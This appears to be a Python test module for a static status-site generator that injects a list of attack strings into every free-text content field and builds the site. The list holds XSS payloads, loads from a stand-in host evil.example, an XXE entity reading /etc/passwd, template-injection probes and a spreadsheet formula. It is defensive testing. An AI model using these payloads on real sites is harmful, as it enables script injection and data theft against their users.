"""Attack strings, kept: each would run, load or send something where it is taken for markup.

They call `alert`, which a browser tells of, or load from a host that is not there; both are seen
where the pages are looked at. A new one is a line here, and goes through every field.
"""

from __future__ import annotations

import copy
from collections.abc import Iterator, Mapping
from functools import cache
from typing import Any

import yaml

from statusgen.build import build, check
from statusgen.findings import errors_in
from tests.sites import NOW, all_themes
from tests.unit.whole_site import FILES

ATTACKS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title></style></textarea></noscript><script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover=alert(1) autofocus onfocus=alert(1) x='",
    '" onfocus=alert(1) autofocus tabindex=0 x="',
    "`onload=alert(1)`",
    "<svg/onload=alert(1)>",
    "</svg><svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';body{display:none}</style>",
    "<p style=background:url(https://evil.example/x.png)>x</p>",
    "<form action=https://evil.example/><input name=x><button>x</button></form>",
    "<img src=https://evil.example/x.png>",
    "<details open ontoggle=alert(1)>x</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<?xml-stylesheet href='https://evil.example/x.xsl'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&lt;img src=x onerror=alert(1)&gt;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](\u0001javascript:alert(1))".replace("\u0001", "&#1;"),
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:alert(1))",
    "[x](//evil.example/)",
    '[x](https://b.example/ "\\" onmouseover=alert(1) x=\\"")',
    "![x](https://evil.example/x.png)",
    "![x\"onerror=alert(1) y=\"](x)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)",
    "https://b.example/\"onmouseover=alert(1)//",
    "`<img src=x onerror=alert(1)>`",
    "{{ 7 * 7 }}{% import os %}{{ cycler.__init__.__globals__ }}",
    "${alert(1)}",
    "#{alert(1)}",
    "%{alert(1)}%s%n{0}{__class__}",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "=HYPERLINK(\"https://evil.example/\")",
    "\\r\\nBEGIN:VALARM\\r\\nATTACH:https://evil.example/\\r\\n",
    "x;ALTREP=\"https://evil.example/\":y",
    "javascript:alert(1)",
    "\u202e<script>alert(1)</script>\u2066",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "__proto__",
    "constructor",
)  # fmt: skip

Path = tuple[str | int, ...]


_LONGEST = 180
"""What the title of an event, the shortest of the fields, has room for."""


def in_lines() -> list[str]:
    """All attacks, as many on a line as a title takes."""
    lines: list[str] = [""]
    for attack in ATTACKS:
        if len(lines[-1]) + len(attack) > _LONGEST:
            lines.append("")
        lines[-1] += f"{attack} "
    return [line.strip() for line in lines]


@cache
def free_fields() -> dict[str, list[Path]]:
    """The fields that take any text: those that take the start of an attack."""
    found: dict[str, list[Path]] = {}
    for name, keys in fields():
        files = with_text("<b>'x\" & y", {name: [keys]})
        if not errors_in(check(files, all_themes(), NOW).findings):
            found.setdefault(name, []).append(keys)
    return found


def attacked(text: str) -> dict[str, bytes]:
    """Every file of the site with that text in every field that takes any."""
    built = build(with_text(text, free_fields()), all_themes(), NOW)
    assert not errors_in(built.findings), built.findings
    return {artifact.path: artifact.content for artifact in built.artifacts}


def fields() -> Iterator[tuple[str, Path]]:
    """Every value of every document, by its file and the keys that lead to it."""
    for name, text in FILES.items():
        yield from ((name, keys) for keys in _leaves(_value(text)))


def with_text(text: str, places: Mapping[str, list[Path]]) -> dict[str, bytes]:
    """The content folder with that text at each of these places."""
    return {name: _replaced(FILES[name], places.get(name, []), text) for name in FILES}


def _leaves(value: Any, keys: Path = ()) -> Iterator[Path]:
    if isinstance(value, dict):
        for key, below in value.items():
            yield from _leaves(below, (*keys, key))
    elif isinstance(value, list):
        for number, below in enumerate(value):
            yield from _leaves(below, (*keys, number))
    else:
        yield keys


def _replaced(source: str, places: list[Path], text: str) -> bytes:
    value = copy.deepcopy(_value(source))
    body = text if ("body",) in places else _body(source)
    for keys in places:
        at = value
        for key in keys[:-1]:
            at = at[key]
        at[keys[-1]] = text
    if not source.startswith("---\n"):
        return _written(value)
    value.pop("body")
    return b"---\n" + _written(value) + b"---\n" + body.encode()


def _written(value: Any) -> bytes:
    return yaml.dump(value, allow_unicode=True, default_style='"', sort_keys=False).encode()


def _value(source: str) -> Any:
    """The document as plain values; of a page its header, and its text as `body`."""
    if not source.startswith("---\n"):
        return yaml.load(source, Loader=yaml.BaseLoader)  # noqa: S506 (all text)
    header = yaml.load(source.split("---\n")[1], Loader=yaml.BaseLoader)  # noqa: S506
    return {**header, "body": _body(source)}


def _body(source: str) -> str:
    return source.split("---\n", 2)[-1]
